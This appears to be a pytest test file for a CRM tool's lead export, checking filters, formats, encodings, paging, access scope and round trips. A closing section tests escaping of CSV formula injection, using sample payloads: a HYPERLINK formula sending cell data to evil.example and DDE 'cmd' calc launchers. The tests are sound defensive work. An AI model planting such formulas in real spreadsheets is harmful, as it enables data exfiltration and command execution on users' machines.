"""``crm lead export``: the filters of ``list``, every format, custom fields and tags as columns, paging through
everything, and the round trip — export, import into an empty database, the same records.

Every test runs on SQLite and, with CRM_TEST_DATABASE_URL, on PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from sqlalchemy import select

from crmcli.store.models import Lead, Tag
from tests.commands.test_bad_input import assert_refused
from tests.conftest import ADMIN, PG_URL, _clear_process_state, _reset_pg, run_crm

NOW = "2026-11-20T10:00:00+00:00"
COLUMNS = ["id", "name", "company", "title", "phone", "mobile", "email", "website", "address", "region", "industry",
           "source", "campaign", "score", "status", "invalid_reason", "owner", "tags", "next_contact_at",
           "last_followup_at", "converted_at", "customer_id", "contact_id", "created_at", "updated_at"]


@pytest.fixture(autouse=True)
def fixed_now(monkeypatch):
    monkeypatch.setenv("CRM_NOW", NOW)


def add(crm, name: str, *args, user: str = ADMIN) -> int:
    result = crm("lead", "add", name, *args, "--json", user=user)
    assert result.code == 0, result
    return result.json()["id"]


def sample(crm) -> None:
    """Leads with every kind of value: custom fields, tags, owners, statuses, awkward text."""
    assert crm("field", "add", "lead", "budget", "--type", "number").code == 0
    assert crm("field", "add", "lead", "vip", "--type", "bool").code == 0
    assert crm("field", "add", "lead", "since", "--type", "date").code == 0
    assert crm("user", "add", "bob", "--name", "Bob").code == 0
    add(crm, "张伟", "--company", "华为技术有限公司", "--mobile", "138 0013 8000", "--email", "Zhang.Wei@Huawei.com",
        "--source", "event", "--score", "40", "--tag", "vip,hot", "--set", "budget=1200.5", "--set", "vip=yes",
        "--set", "since=2026-01-31", "--next", "2026-11-25 14:30")
    add(crm, "Li, \"Nana\"", "--company", "Acme Ltd", "--address", "line one\nline two", "--owner", "bob",
        "--set", "budget=80")
    third = add(crm, "Wang Fang", "--owner", "none", "--title", "CTO\tand more")
    assert crm("lead", "invalidate", third, "--reason", "空号").code == 0


def test_csv_with_custom_fields_and_tags(crm):
    sample(crm)
    result = crm("lead", "export")
    assert result.code == 0, result
    rows = list(csv.reader(io.StringIO(result.out)))
    assert rows[0] == COLUMNS + ["budget", "vip", "since"]
    first = dict(zip(rows[0], rows[1]))
    assert {k: first[k] for k in ("id", "name", "company", "mobile", "email", "source", "score", "status", "owner",
                                  "tags", "next_contact_at", "created_at", "budget", "vip", "since")} == {
        "id": "1", "name": "张伟", "company": "华为技术有限公司", "mobile": "138 0013 8000",
        "email": "Zhang.Wei@Huawei.com", "source": "event", "score": "40", "status": "new", "owner": "admin",
        "tags": "hot,vip", "next_contact_at": "2026-11-25T14:30:00+00:00", "created_at": "2026-11-20T10:00:00+00:00",
        "budget": "1200.5", "vip": "true", "since": "2026-01-31"}
    second = dict(zip(rows[0], rows[2]))
    assert (second["name"], second["address"], second["owner"], second["budget"], second["vip"]) == (
        'Li, "Nana"', "line one\nline two", "bob", "80", "")
    third = dict(zip(rows[0], rows[3]))
    assert (third["owner"], third["status"], third["invalid_reason"], third["tags"]) == ("none", "invalid", "空号", "")
    assert len(rows) == 4
    assert result.err == ""  # to stdout: no message


def test_the_filters_of_list(crm):
    sample(crm)

    def exported(*args) -> list[str]:
        result = crm("lead", "export", "--format", "jsonl", *args)
        assert result.code == 0, result
        return [json.loads(line)["name"] for line in result.out.splitlines()]

    assert exported("--owner", "bob") == ['Li, "Nana"']
    assert exported("--owner", "none") == ["Wang Fang"]
    assert exported("--status", "invalid") == ["Wang Fang"]
    assert exported("--tag", "vip") == ["张伟"]
    assert exported("--where", "budget>100") == ["张伟"]
    assert exported("--where", "vip=yes") == ["张伟"]
    assert exported("--search", "华为技术") == ["张伟"]
    assert exported("--sort", "-id") == ["Wang Fang", 'Li, "Nana"', "张伟"]
    assert exported("--limit", "2") == ["张伟", 'Li, "Nana"']
    assert_refused(crm("lead", "export", "--status", "won"), 6,
                   "crm: error: unknown status 'won' (hint: one of: new, qualifying, converted, invalid)\n")


def test_every_format_and_the_output_file(crm, tmp_path):
    sample(crm)
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    as_json = crm("lead", "export", "--json").json()
    assert [r["name"] for r in as_json] == ["张伟", 'Li, "Nana"', "Wang Fang"]
    assert as_json[0]["tags"] == ["hot", "vip"] and as_json[0]["budget"] == 1200.5 and as_json[0]["vip"] is True
    assert as_json[0]["score"] == 40 and as_json[1]["vip"] is None
    lines = crm("lead", "export", "--format", "jsonl").out.splitlines()
    assert [json.loads(line) for line in lines] == as_json
    tsv = crm("lead", "export", "--format", "tsv").out.splitlines()
    assert tsv[0].split("\t") == COLUMNS + ["budget", "vip", "since"]
    assert tsv[2].split("\t")[8] == "line one line two"  # TSV has no quoting: line breaks become spaces
    assert tsv[3].split("\t")[3] == "CTO and more"
    for name, fmt in (("all.csv", "csv"), ("all.tsv", "tsv"), ("all.jsonl", "jsonl"), ("all.json", "json")):
        target = tmp_path / name
        result = crm("lead", "export", "--output", target)
        assert result.code == 0, result
        assert result.err == f"Exported 3 lead records to {target}.\n"
        assert target.read_text(encoding="utf-8") == crm("lead", "export", "--format", fmt).out
    assert sorted(os.listdir(tmp_path)) == ["all.csv", "all.json", "all.jsonl", "all.tsv"]  # no .part left
    bom = tmp_path / "excel.csv"
    assert crm("lead", "export", "--output", bom, "--encoding", "utf-8-sig").code == 0
    assert bom.read_bytes().startswith(b"\xef\xbb\xbfid,name")
    gbk = tmp_path / "gbk.csv"
    assert crm("lead", "export", "--output", gbk, "--encoding", "gb18030").code == 0
    assert "华为技术有限公司" in gbk.read_bytes().decode("gb18030")


def test_export_reads_page_by_page(crm, monkeypatch):
    from crmcli.services import recordio

    monkeypatch.setattr(recordio, "EXPORT_PAGE", 2)
    ids = [add(crm, f"L{i}", "--tag", f"t{i}") for i in range(7)]
    rows = crm("lead", "export", "--json").json()
    assert [r["id"] for r in rows] == ids and [r["tags"] for r in rows] == [[f"t{i}"] for i in range(7)]
    assert [r["id"] for r in crm("lead", "export", "--json", "--limit", "5").json()] == ids[:5]
    assert [r["id"] for r in crm("lead", "export", "--json", "--sort", "-id", "--limit", "3").json()] == ids[::-1][:3]


def test_export_sees_only_the_data_scope(crm):
    assert crm("user", "add", "rep", "--role", "sales_rep").code == 0
    assert crm("user", "add", "rep2", "--role", "sales_rep").code == 0
    add(crm, "Rep's", "--owner", "rep")
    add(crm, "Rep2's", "--owner", "rep2")
    assert [r["name"] for r in crm("lead", "export", "--json", user="rep").json()] == ["Rep's"]
    assert len(crm("lead", "export", "--json").json()) == 2


def test_bad_exports(crm, tmp_path):
    sample(crm)
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    crm("user", "add", "cs", "--role", "customer_service")
    result = crm("lead", "export", user="cs")
    assert result.code == 4 and result.out == "" and "lead.export" in result.err, result
    assert_refused(crm("lead", "export", "--format", "table"), 2,
                   "crm: error: export writes csv, tsv, jsonl or json, not table (hint: --format csv)\n")
    assert_refused(crm("lead", "export", "--encoding", "klingon"), 6,
                   "crm: error: unknown encoding 'klingon' (hint: for example utf-8, gb18030, gbk, cp1252, latin-1 or "
                   "utf-16)\n")
    target = tmp_path / "latin.csv"
    assert_refused(crm("lead", "export", "--output", target, "--encoding", "latin-1"), 6,
                   "crm: error: lead 1 has text that latin-1 cannot hold: 张伟 (hint: export with --encoding utf-8 or "
                   "gb18030)\n")
    assert os.listdir(tmp_path) == []  # neither the file nor its .part
    result = crm("lead", "export", "--output", tmp_path / "no" / "such" / "dir.csv")
    assert result.code == 6 and result.err.startswith("crm: error: cannot write "), result


# --- the round trip ---------------------------------------------------------------------------------


def records(db_url: str) -> list[dict]:
    """Every lead with its tags, as comparable values (times as instants)."""
    from sqlalchemy import create_engine
    from sqlalchemy.orm import Session

    engine = create_engine(db_url)
    with Session(engine) as s:
        tags: dict[int, list[str]] = {}
        for record_id, tag in s.execute(select(Tag.record_id, Tag.tag).where(Tag.record_type == "lead")
                                        .order_by(Tag.tag)):
            tags.setdefault(record_id, []).append(tag)
        rows = []
        for lead in s.execute(select(Lead).order_by(Lead.id)).scalars():
            row = {c: getattr(lead, c) for c in Lead.__table__.columns.keys()
                   if c not in ("updated_at", "owned_since")}
            row["tags"] = tags.get(lead.id, [])
            rows.append(row)
    engine.dispose()
    return rows


def fresh_database(db_url: str) -> None:
    """Empty the test's database and make it anew (crm init), so ids start again at 1."""
    _clear_process_state()
    if PG_URL:
        _reset_pg(db_url)
        return
    path = Path(db_url.removeprefix("sqlite:///"))
    for suffix in ("", "-wal", "-shm"):
        Path(f"{path}{suffix}").unlink(missing_ok=True)
    result = run_crm(["--db", str(path), "init", "--admin", ADMIN, "--name", "Admin"])
    assert result.code == 0, result
    _clear_process_state()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "json"])
def test_export_then_import_into_an_empty_database_gives_the_records_back(crm, db_url, tmp_path, fmt):
    sample(crm)
    assert crm("lead", "follow", 1, "--via", "phone", "--note", "called").code == 0  # status and follow-up clock
    before = records(db_url)
    target = tmp_path / f"leads.{fmt}"
    assert crm("lead", "export", "--output", target).code == 0
    fresh_database(db_url)
    assert records(db_url) == []
    # what a file does not carry: the custom field definitions and the users
    for args in (("field", "add", "lead", "budget", "--type", "number"), ("field", "add", "lead", "vip", "--type", "bool"),
                 ("field", "add", "lead", "since", "--type", "date"), ("user", "add", "bob", "--name", "Bob")):
        assert crm(*args).code == 0
    result = crm("lead", "import", target, "--json")
    assert result.code == 0, result
    assert (result.json()["inserted"], result.json()["rejected"]) == (3, 0)
    after = records(db_url)
    # the follow-up itself is not part of a lead export: its clock is not carried either
    for row in before:
        row["last_followup_at"] = None
    assert after == before


def table_rows(db_url: str, model, skip: tuple[str, ...] = ()) -> list[dict]:
    from sqlalchemy import create_engine
    from sqlalchemy.orm import Session

    engine = create_engine(db_url)
    with Session(engine) as s:
        rows = [{c: getattr(r, c) for c in model.__table__.columns.keys() if c not in skip}
                for r in s.execute(select(model).order_by(model.id)).scalars()]
    engine.dispose()
    return rows


def test_customers_and_contacts_round_trip(crm, db_url, tmp_path):
    from crmcli.store.models import Contact, Customer

    assert crm("field", "add", "customer", "industry_code", "--label", "行业代码").code == 0
    assert crm("field", "add", "contact", "hobby").code == 0
    assert crm("user", "add", "bob").code == 0
    assert crm("customer", "add", "华为技术有限公司", "--tier", "A", "--phone", "0755-28780808",
               "--credit-code", "91350100M000100Y43", "--set", "industry_code=C39", "--tag", "key").code == 0
    assert crm("customer", "add", "Acme Ltd", "--owner", "bob", "--kind", "company").code == 0
    assert crm("contact", "add", "张伟", "--customer", "1", "--email", "zw@huawei.example", "--birthday", "1985-03-12",
               "--set", "hobby=go", "--tag", "decision").code == 0
    assert crm("contact", "add", "李娜", "--customer", "1", "--mobile", "13912345678", "--role", "采购经理").code == 0
    assert crm("contact", "add", "Bob's contact", "--customer", "Acme Ltd").code == 0
    assert crm("contact", "add", "Primary Later", "--customer", "1", "--primary").code == 0
    skip = ("updated_at", "owned_since")
    before = table_rows(db_url, Customer, skip), table_rows(db_url, Contact, skip)
    customers_file, contacts_file = tmp_path / "customers.csv", tmp_path / "contacts.jsonl"
    assert crm("customer", "export", "--output", customers_file).code == 0
    assert crm("contact", "export", "--output", contacts_file).code == 0
    fresh_database(db_url)
    for args in (("field", "add", "customer", "industry_code", "--label", "行业代码"), ("field", "add", "contact", "hobby"),
                 ("user", "add", "bob")):
        assert crm(*args).code == 0
    for noun, path in (("customer", customers_file), ("contact", contacts_file)):
        result = crm(noun, "import", path, "--json")
        assert result.code == 0, result
        assert result.json()["rejected"] == 0 and result.json()["skipped"] == 0
    assert (table_rows(db_url, Customer, skip), table_rows(db_url, Contact, skip)) == before


# --- formula injection (OWASP CSV injection) ---------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted", "''+twice"]


def formula_leads(crm) -> None:
    assert crm("field", "add", "lead", "budget", "--type", "number").code == 0
    for n, text in enumerate(FORMULAS):
        add(crm, f"Lead {n}", "--company", text, "--title", "-", "--tag", "=tag" if n == 0 else "plain")
    add(crm, "Numbers", "--company", "-5", "--phone", "+86 138 0013 8000", "--mobile", "+8613900139000",
        "--set", "budget=-12.5", "--score", "-3" if False else "0")


def test_csv_export_escapes_formulas_but_not_numbers(crm):
    formula_leads(crm)
    result = crm("lead", "export")
    assert result.code == 0, result
    rows = [dict(zip(*pair)) for pair in [(r[0], row) for r in [list(csv.reader(io.StringIO(result.out)))]
                                          for row in r[1:]]]
    assert [row["company"] for row in rows[:len(FORMULAS)]] == ["'" + text for text in FORMULAS]
    assert rows[0]["tags"] == "'=tag"
    assert rows[0]["title"] == "-"  # one character is no formula
    numbers = rows[-1]
    assert numbers["company"] == "-5" and numbers["mobile"] == "+8613900139000"  # plain numbers stay numbers
    assert numbers["phone"] == "'+86 138 0013 8000"  # a spreadsheet would read this as a formula (+86 …)
    assert numbers["budget"] == "-12.5" and numbers["score"] == "0"


def test_only_csv_is_escaped_and_no_escape_formulas_writes_raw(crm):
    formula_leads(crm)
    raw = crm("lead", "export", "--no-escape-formulas")
    assert [row[2] for row in list(csv.reader(io.StringIO(raw.out)))[1:len(FORMULAS) + 1]] == FORMULAS
    tsv = crm("lead", "export", "--format", "tsv")
    assert [line.split("\t")[2] for line in tsv.out.splitlines()[1:len(FORMULAS) + 1]] == FORMULAS
    jsonl = crm("lead", "export", "--format", "jsonl")
    assert [json.loads(line)["company"] for line in jsonl.out.splitlines()[:len(FORMULAS)]] == FORMULAS


def test_list_format_csv_escapes_formulas(crm):
    formula_leads(crm)
    result = crm("lead", "list", "--format", "csv", "--sort", "id")
    rows = list(csv.reader(io.StringIO(result.out)))
    column = rows[0].index("company")
    assert [row[column] for row in rows[1:len(FORMULAS) + 1]] == ["'" + text for text in FORMULAS]
    assert rows[-1][column] == "-5"
    tsv = crm("lead", "list", "--format", "tsv", "--sort", "id")  # for scripts: as stored
    assert tsv.rows()[1][tsv.rows()[0].index("company")] == FORMULAS[0]


def test_escaped_csv_imports_back_as_it_was(crm, db_url, tmp_path):
    formula_leads(crm)
    before = records(db_url)
    target = tmp_path / "leads.csv"
    assert crm("lead", "export", "--output", target).code == 0
    fresh_database(db_url)
    assert crm("field", "add", "lead", "budget", "--type", "number").code == 0
    result = crm("lead", "import", target, "--json")
    assert result.code == 0, result
    assert records(db_url) == before


def test_the_rejects_file_escapes_formulas(crm, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("name,email,=evil\n=SUM(A1),not-an-email,@x\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    result = crm("lead", "import", source, "--on-error", "skip", "--rejects", rejects)
    assert result.code == 0, result
    rows = list(csv.reader(io.StringIO(rejects.read_text(encoding="utf-8"))))
    assert rows == [["line", "reason", "name", "email", "'=evil"],
                    ["2", "'not-an-email' is not a valid email address", "'=SUM(A1)", "not-an-email", "'@x"]]
